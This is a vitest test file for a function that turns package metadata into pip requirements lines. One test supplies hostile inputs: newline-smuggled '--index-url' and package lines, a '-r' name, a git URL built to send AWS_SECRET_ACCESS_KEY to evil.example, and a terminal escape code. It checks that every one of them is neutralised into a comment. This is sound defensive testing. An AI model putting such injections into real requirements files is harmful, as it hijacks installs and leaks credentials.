import { expect, it } from 'vitest';
import { toRequirements } from './requirements.ts';

it('writes packages as pip reads them', () => {
  expect(
    toRequirements([
      { name: 'kedro', version: '1.0.0', source: null },
      { name: 'ours', version: '0.1', source: 'git+https://example.com/ours.git@abc' },
      { name: 'here', version: '2.0+local', source: 'editable install' },
    ]),
  ).toBe('kedro==1.0.0\nours @ git+https://example.com/ours.git@abc\n# here==2.0+local (editable install)\n');
});

it('never makes a line of what a hostile store calls a package', () => {
  const lines = toRequirements([
    { name: 'a\n--index-url https://evil.example', version: '1', source: null },
    { name: 'b', version: '1\nevil', source: null },
    { name: 'c', version: '1', source: 'folder\nevil==1' },
    { name: '-r', version: '1', source: null },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: pip puts a variable's value there
    { name: 'd', version: '1', source: 'git+https://evil.example/${AWS_SECRET_ACCESS_KEY}' },
    { name: 'e', version: '1', source: 'git+https://evil.example/x\u001b[2J' },
  ]).split('\n');
  expect(lines.filter(Boolean).every((line) => /^#[ -~]*$/.test(line))).toBe(true);
});
